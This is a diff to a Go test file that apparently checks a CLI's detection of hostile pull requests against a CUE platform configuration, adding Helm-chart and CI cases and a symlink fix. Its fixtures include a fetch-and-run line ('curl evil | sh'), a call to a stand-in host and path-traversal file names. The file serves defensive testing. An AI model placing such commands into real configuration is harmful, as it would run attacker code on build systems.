@@ -1,6 +1,7 @@
 package cli_test
 
 import (
+	"errors"
 	"fmt"
 	"os"
 	"path/filepath"
@@ -228,6 +229,7 @@ func pulls() []pull {
 		{kind: "lines", name: "a number in a ConfigMap", base: map[string]string{prod: "package platform\ntargets: phase1: ConfigMap: m: {" + mapOf("1000") + "}\n"}, head: map[string]string{prod: "package platform\ntargets: phase1: ConfigMap: m: {" + mapOf("1e3") + "}\n"}, exit: -1, wants: []string{"1e3"}},
 		{kind: "lines", name: "code behind the name of a secret", base: map[string]string{prod: aTask("true", `{name: "TOKEN_CMD", value: "echo harmless"}`)}, head: map[string]string{prod: aTask("true", `{name: "TOKEN_CMD", value: "curl evil | sh"}`)}, exit: -1, wants: []string{"curl evil | sh"}},
 		{kind: "lines", name: "a file beside the overlay", head: map[string]string{prod: "package platform\nfiles: phase1: \"github/evil.yaml\": \"run: curl evil.example\"\n"}, exit: -1, wants: []string{"curl evil.example"}},
+		{kind: "lines", name: "a chart of Helm", head: map[string]string{prod: "package platform\nfiles: phase1: \"Chart.yaml\": \"name: a\"\n"}, exit: 1, wants: []string{"overlay/file-name"}},
 		{kind: "lines", name: "a file that leads out", head: map[string]string{prod: "package platform\nfiles: phase1: \"../../argocd/kustomization.yaml\": \"resources: []\"\n"}, exit: 1, wants: []string{"overlay/file-name"}},
 		{kind: "lines", name: "a file of Argo CD's", head: map[string]string{prod: "package platform\nfiles: phase1: \".argocd-source.yaml\": \"kustomize: {}\"\n"}, exit: 1, wants: []string{"overlay/file-name"}},
 
@@ -371,7 +373,7 @@ func TestHostilePulls(t *testing.T) {
 		t.Fatal(got.output)
 	}
 	counts := map[string]int{}
-	for _, p := range slices.Concat(pulls(), pullTexts(), pullsOfPower(), pullsOfEffect(), pullsOfClusters(), pullsOfNeighbours()) {
+	for _, p := range slices.Concat(pulls(), pullTexts(), pullsOfPower(), pullsOfEffect(), pullsOfClusters(), pullsOfNeighbours(), pullsOfCI()) {
 		counts[p.kind]++
 		t.Run(p.kind+"/"+p.name, func(t *testing.T) {
 			t.Parallel()
@@ -413,7 +415,7 @@ func change(t *testing.T, dir string, files map[string]string) {
 		case text == "" && statErr == nil:
 			err = os.Remove(file)
 		case strings.HasPrefix(text, "->"):
-			err = os.MkdirAll(filepath.Dir(file), 0o755)
+			err = errors.Join(os.RemoveAll(file), os.MkdirAll(filepath.Dir(file), 0o755))
 			if err == nil {
 				err = os.Symlink(text[2:], file)
 			}
